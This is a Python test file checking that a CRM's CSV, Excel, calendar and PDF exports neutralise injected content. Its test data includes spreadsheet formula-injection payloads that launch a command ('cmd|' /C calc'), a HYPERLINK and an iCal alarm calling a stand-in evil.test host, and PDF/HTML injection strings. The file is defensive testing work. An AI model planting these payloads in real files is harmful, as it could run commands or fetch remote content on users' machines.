"""No cell of any file that goes out runs as a formula, whatever stood in the field; and coming back it is the field again."""

from __future__ import annotations

import ast
import datetime as dt
import re
from decimal import Decimal
from io import BytesIO, StringIO
from pathlib import Path

import openpyxl
import pandas as pd
import pypdfium2
import pytest
from icalendar import Calendar

from crm.exchange import sheet
from crm.exchange.ical import Appointment, to_ical
from crm.exchange.offers import Column, offer_xlsx
from crm.exchange.profiles import profile_xlsx
from crm.exchange.reading import read_table
from crm.exchange.writing import to_csv, to_xlsx
from crm.settings import ROOT

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "'=", "''@", "=\t")
FORMULAS = [f"{sign}cmd|' /C calc'!A0" for sign in BEGINNINGS] + [
    '=HYPERLINK("http://evil.test","x")',
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "+1 555 0100",
    "-1-1",
    "=1",
]
PLAIN = ["-5", "-12.50", "-1,234.5", "it's", "'quoted'", "a=b", "x@y.example", "1-2", "—", "＝1"]
NOT_OURS = re.compile(r"openpyxl|xlsxwriter|csv\.writer|\.to_csv\(|\.to_excel\(")


def runs(value: object) -> bool:
    """Would a spreadsheet take this for a formula?"""
    return isinstance(value, str) and bool(re.match(r"^[=+\-@\t\r\n]", value)) and not re.fullmatch(r"-\d+(?:[.,]\d+)*", value)


def cells(content: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(BytesIO(content))
    return [cell for one in book.worksheets for row in one.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_list_is_harmless_and_comes_back(kind):
    frame = pd.DataFrame({"name": FORMULAS + PLAIN, "=head": FORMULAS + PLAIN, "amount": -1.5})
    names = {"name": "Name", "=head": "=Head", "amount": "Amount"}
    made = to_csv(frame, names) if kind == "csv" else to_xlsx(frame, names, "=Sheet")
    if kind == "csv":
        read = pd.read_csv(StringIO(made.decode("utf-8-sig")), dtype=str, keep_default_na=False)
        assert not any(runs(value) for column in read for value in [column, *read[column]])
        assert set(read["Amount"]) == {"-1.5"}
    else:
        assert not any(cell.data_type == "f" or runs(cell.value) for cell in cells(made))
        assert {cell.value for cell in cells(made) if cell.column == 3} == {"Amount", -1.5}
    back = read_table(made, f"x.{kind}").frame
    expected = [text.replace("\r", "\n") if kind == "xlsx" else text for text in FORMULAS + PLAIN]
    assert back["Name"].tolist() == expected and set(back["Amount"]) == {"-1.5"}


def test_an_offer_and_a_profile_are_harmless():
    for text in FORMULAS:
        offer = offer_xlsx(
            text,
            [(text, text)],
            [Column(text, 20), *(Column("n", 9) for _ in range(5))],
            [[text, -3, 1, 1, 1, 1]],
            (text, Decimal(-5)),
            text,
        )
        profile = profile_xlsx(text, [(text, [(text, text), ("n", -2)])])
        for cell in [*cells(offer), *cells(profile)]:
            assert cell.data_type != "f" and not runs(cell.value), (text, cell.value)


def test_nobody_writes_a_table_past_these():
    """A new export goes through crm.exchange, or this fails."""
    files = [file for folder in ("crm", "pages") for file in (ROOT / folder).rglob("*.py")]
    others = [file for file in files if not file.is_relative_to(ROOT / "crm" / "exchange") and "bench" not in file.parts]
    found = {file.relative_to(ROOT).as_posix() for file in others if NOT_OURS.search(_code(file))}
    assert found == set()


def _code(file: Path) -> str:
    """Without its texts."""
    tree = ast.parse(file.read_text())
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            node.value = ""
    return ast.unparse(tree)


HOSTILE = "Visit\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\nATTACH:http://evil.test/x\rEND:VALARM;x,y\\n\u2028" + "W" * 500


def test_a_calendar_carries_text_and_no_lines_of_its_own():
    made = to_ical(
        [Appointment("1@x", dt.date(2026, 6, 30), HOSTILE, dt.time(9), 30, HOSTILE, HOSTILE, HOSTILE)],
        "Asia/Shanghai",
        dt.datetime(2026, 6, 30, tzinfo=dt.UTC),
        HOSTILE,
    )
    lines = made.split(b"\r\n")
    assert all(len(line) <= 75 for line in lines) and not re.search(rb"(?<!\r)\n|\r(?!\n)", made)
    assert not any(line.startswith((b"BEGIN:VALARM", b"ATTACH", b"ACTION")) for line in lines)
    [event] = Calendar.from_ical(made).walk("VEVENT")
    assert not Calendar.from_ical(made).walk("VALARM") and "BEGIN:VALARM" in str(event["summary"])


def test_a_sheet_carries_text_and_no_link():
    text = "<a href='javascript:x'>k</a> (x) Tj ET /Action (http://evil.test) <img src=x> \\ endstream"
    cells, way, box = sheet.Cells(text), sheet.Way(text), sheet.Box(text, text)
    made = sheet.to_pdf(sheet.Sheet(text, text, text, (box,), cells, way, (text,), text, text, author=text))
    for mark in (b"/JavaScript", b"/URI", b"/Launch", b"/OpenAction", b"/EmbeddedFile"):
        assert mark not in made
    document = pypdfium2.PdfDocument(made)
    shown = document[0].get_textpage().get_text_range()
    document.close()
    assert "<a href='javascript:x'>k</a>" in shown
